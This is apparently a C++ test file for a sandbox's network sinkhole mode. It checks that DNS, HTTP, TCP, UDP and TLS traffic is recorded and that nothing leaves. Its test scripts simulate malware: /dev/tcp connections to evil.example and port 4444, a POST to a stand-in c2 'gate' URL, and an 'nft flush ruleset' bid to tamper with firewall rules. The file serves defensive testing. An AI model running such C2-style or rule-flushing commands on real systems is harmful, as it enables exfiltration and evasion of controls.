// --net sinkhole through the real binary (src/net/sinkhole.h): DNS answered locally, every TCP/UDP
// destination redirected to airlock's supervisor and recorded, nothing leaves; as root and as an
// unprivileged user.
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include <functional>
#include <sstream>

#include "test_env.h"

using namespace airlock::test;

namespace {

std::vector<nlohmann::json> Events(const std::string& path) {
  std::vector<nlohmann::json> out;
  std::istringstream in(ReadFileOrEmpty(path));
  for (std::string line; std::getline(in, line);)
    if (!line.empty()) out.push_back(nlohmann::json::parse(line));
  return out;
}

const nlohmann::json* Find(const std::vector<nlohmann::json>& events, const std::function<bool(const nlohmann::json&)>& pred) {
  for (const auto& e : events)
    if (pred(e)) return &e;
  return nullptr;
}

bool NftablesMissing() { return ReadFileOrEmpty("/usr/lib/x86_64-linux-gnu/libnftables.so.1").empty() &&
                                airlock::test::Run({"/bin/sh", "-c", "ldconfig -p | grep -q libnftables.so.1"}).exit_code != 0; }

}  // namespace

TEST(NetSinkhole, RecordsDnsTcpHttpAndUdpWhileNothingLeaves) {
  if (NftablesMissing()) GTEST_SKIP() << "libnftables1 is not installed";
  std::string dir = MakeTempDir("sinkhole");
  const char* script =
      "getent hosts evil.example; "
      "exec 3<>/dev/tcp/1.2.3.4/80 && printf 'GET /payload HTTP/1.1\\r\\nHost: evil.example\\r\\nUser-Agent: t/1\\r\\n\\r\\n' >&3 && "
      "head -c 15 <&3; echo; exec 3>&-; "
      "python3 -c \"import urllib.request; print('post', urllib.request.urlopen('http://c2.evil.example:8080/gate', data=b'k=v').status)\"; "
      "echo ping > /dev/udp/5.6.7.8/9999; "
      "exec 4<>/dev/tcp/203.0.113.9/4444 && echo banner >&4; "
      "python3 -c \"import socket, ssl\ns = socket.create_connection(('secure.evil.example', 443), timeout=2)\n"
      "try: ssl.create_default_context().wrap_socket(s, server_hostname='secure.evil.example')\nexcept Exception: pass\"";
  auto r = RunAirlock({"--net", "sinkhole", "--monitor", dir + "/e.jsonl", "--report", dir + "/r.json"}, {"/bin/bash", "-c", script});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  // The sample saw a working network: names resolve to sinkhole addresses, HTTP answers 200.
  EXPECT_NE(r.out.find("198.18.0.1"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("evil.example"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("HTTP/1.1 200 OK"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("post 200"), std::string::npos) << r.out << r.err;
  auto ev = Events(dir + "/e.jsonl");
  auto* dns = Find(ev, [](const auto& e) { return e["category"] == "dns_query" && e["QueryName"] == "evil.example" && e.value("QueryType", "") == "A"; });
  ASSERT_NE(dns, nullptr);
  EXPECT_EQ((*dns)["QueryResults"], "198.18.0.1");
  EXPECT_EQ((*dns)["EventID"], 22);
  auto* get = Find(ev, [](const auto& e) { return e.value("Sinkhole", "") == "true" && e.value("Url", "") == "http://evil.example/payload"; });
  ASSERT_NE(get, nullptr) << ReadFileOrEmpty(dir + "/e.jsonl");
  EXPECT_EQ((*get)["category"], "network_connection");
  EXPECT_EQ((*get)["DestinationIp"], "1.2.3.4");
  EXPECT_EQ((*get)["DestinationPort"], 80);
  EXPECT_EQ((*get)["Method"], "GET");
  EXPECT_EQ((*get)["Host"], "evil.example");
  EXPECT_EQ((*get)["UserAgent"], "t/1");
  EXPECT_NE((*get)["FirstBytes"].get<std::string>().find("GET /payload HTTP/1.1\\r\\n"), std::string::npos);
  // The resolved name is attached to a connection to its sinkhole address.
  auto* post = Find(ev, [](const auto& e) { return e.value("Method", "") == "POST"; });
  ASSERT_NE(post, nullptr);
  EXPECT_EQ((*post)["DestinationHostname"], "c2.evil.example");
  EXPECT_EQ((*post)["DestinationPort"], 8080);
  EXPECT_EQ((*post)["Url"], "http://c2.evil.example:8080/gate");
  EXPECT_NE((*post)["FirstBytes"].get<std::string>().find("k=v"), std::string::npos);
  EXPECT_NE(Find(ev, [](const auto& e) { return e.value("Sinkhole", "") == "true" && e["Protocol"] == "udp" && e.value("FirstBytes", "") == "ping\\n"; }),
            nullptr);
  auto* raw = Find(ev, [](const auto& e) { return e.value("Sinkhole", "") == "true" && e.value("DestinationPort", 0) == 4444; });
  ASSERT_NE(raw, nullptr);
  EXPECT_EQ((*raw)["FirstBytes"], "banner\\n");
  EXPECT_FALSE(raw->contains("Url"));
  auto* tls = Find(ev, [](const auto& e) { return e.value("TlsServerName", "") == "secure.evil.example"; });
  ASSERT_NE(tls, nullptr) << "no TLS ClientHello recorded";
  EXPECT_EQ((*tls)["DestinationPort"], 443);
  EXPECT_EQ((*tls)["DestinationHostname"], "secure.evil.example");
  auto report = nlohmann::json::parse(ReadFileOrEmpty(dir + "/r.json"));
  const auto& net = report["network"];
  EXPECT_EQ(net["mode"], "sinkhole");
  EXPECT_GE(net["connections"].get<int>(), 3);
  EXPECT_GE(net["udp_datagrams"].get<int>(), 1);
  EXPECT_EQ(net["records_dropped"], 0);
  EXPECT_NE(net["domains"].dump().find("c2.evil.example"), std::string::npos);
  EXPECT_NE(net["urls"].dump().find("http://evil.example/payload"), std::string::npos);
  EXPECT_NE(report["layers"].dump().find("net-sinkhole"), std::string::npos);
}

TEST(NetSinkhole, LoopbackStaysLocalAndTheSandboxCannotChangeTheRules) {
  if (NftablesMissing()) GTEST_SKIP() << "libnftables1 is not installed";
  std::string dir = MakeTempDir("sinkhole-lo");
  // A server inside the sandbox on 127.0.0.1 is reached directly (not the sinkhole's empty 200);
  // nft inside has no CAP_NET_ADMIN, so after the flush attempt a connection is still sinkholed.
  const char* script =
      "mkdir -p /tmp/www && echo inside-server > /tmp/www/x && cd /tmp/www && "
      "(python3 -m http.server 8765 --bind 127.0.0.1 >/dev/null 2>&1 &) ; "
      "for i in $(seq 50); do python3 -c \"import urllib.request; print(urllib.request.urlopen('http://127.0.0.1:8765/x').read().decode())\" 2>/dev/null && break; sleep 0.1; done; "
      "nft flush ruleset; echo nft-exit=$?; "
      "exec 3<>/dev/tcp/192.0.2.77/25 && echo after-flush >&3; exit 0";
  auto r = RunAirlock({"--net", "sinkhole", "--monitor", dir + "/e.jsonl"}, {"/bin/bash", "-c", script});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("inside-server"), std::string::npos) << r.out << r.err;
  EXPECT_EQ(r.out.find("nft-exit=0"), std::string::npos) << r.out;
  auto ev = Events(dir + "/e.jsonl");
  EXPECT_NE(Find(ev, [](const auto& e) { return e.value("Sinkhole", "") == "true" && e.value("DestinationIp", "") == "192.0.2.77" &&
                                                 e.value("FirstBytes", "") == "after-flush\\n"; }),
            nullptr)
      << ReadFileOrEmpty(dir + "/e.jsonl");
  EXPECT_EQ(Find(ev, [](const auto& e) { return e.value("Sinkhole", "") == "true" && e.value("DestinationPort", 0) == 8765; }), nullptr);
}

TEST(NetSinkhole, ExplainAndTheAnalysisProfile) {
  auto r = RunAirlock({"--explain", "--net", "sinkhole"}, {"/bin/true"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("sinkhole"), std::string::npos) << r.out;
  auto p = airlock::test::Run({AirlockBin(), "profile", "show", "analysis"});
  EXPECT_NE(p.out.find("sinkhole"), std::string::npos) << p.out;
  auto bad = RunAirlock({"--net", "sinkhole", "--net-allow", "192.0.2.1:80"}, {"/bin/true"});
  EXPECT_NE(bad.exit_code, 0);
}

TEST(NetSinkhole, FailsClosedWithoutNftables) {
  if (!IsRoot()) GTEST_SKIP() << "hiding libnftables needs a private mount namespace (root)";
  std::string lib = airlock::test::Run({"/bin/sh", "-c", "ldconfig -p | sed -n 's/.*libnftables.so.1 .*=> //p' | head -1"}).out;
  while (!lib.empty() && lib.back() == '\n') lib.pop_back();
  if (lib.empty()) GTEST_SKIP() << "libnftables1 is not installed";
  for (const char* net : {"--net sinkhole", "--net user --net-allow 192.0.2.1:80"}) {
    std::string cmd = "mount --bind /dev/null " + lib + " && exec " + AirlockBin() + " run " + net + " -- /bin/echo ran";
    auto r = airlock::test::Run({"unshare", "-m", "/bin/sh", "-c", cmd});
    EXPECT_EQ(r.exit_code, 125) << net << ": " << r.out << r.err;
    EXPECT_EQ(r.out.find("ran"), std::string::npos) << net;
    EXPECT_NE(r.err.find("nftables is not available"), std::string::npos) << net << ": " << r.err;
  }
}
